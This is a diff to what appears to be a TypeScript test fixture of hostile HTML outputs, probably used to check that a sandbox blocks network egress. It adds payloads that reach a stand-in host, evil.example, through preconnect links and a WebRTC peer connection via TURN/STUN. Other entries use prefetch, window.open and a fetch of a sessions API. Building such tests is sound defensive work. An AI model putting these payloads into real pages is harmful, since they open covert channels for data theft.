@@ -42,6 +42,12 @@ export const hostileOutputs: Readonly<Record<string, object>> = {
   "HTML with a prefetch": html(
     "<link rel=prefetch href=http://evil.example/p><link rel=dns-prefetch href=//evil.example><link rel=preconnect href=http://evil.example>",
   ),
+  "HTML that connects ahead": html(
+    "<link rel=preconnect href=http://evil.example crossorigin><link rel=preconnect href=http://evil.example>",
+  ),
+  "HTML that opens a channel to a peer": html(
+    `<script>try{const peer=new RTCPeerConnection({iceServers:[{urls:"turn:evil.example?transport=tcp",username:"data",credential:"x"},{urls:"stun:evil.example"}]});peer.createDataChannel("x");peer.createOffer().then((offer)=>peer.setLocalDescription(offer))}catch(e){}</script>`,
+  ),
   "HTML that opens a window": html("<script>window.open('http://evil.example/w');window.open('/page')</script>"),
   "HTML that asks for the page's routes": html(
     "<script>fetch('/page/api/sessions').then(r=>r.text()).then(t=>{top.hacked=t}).catch(()=>{})</script>",
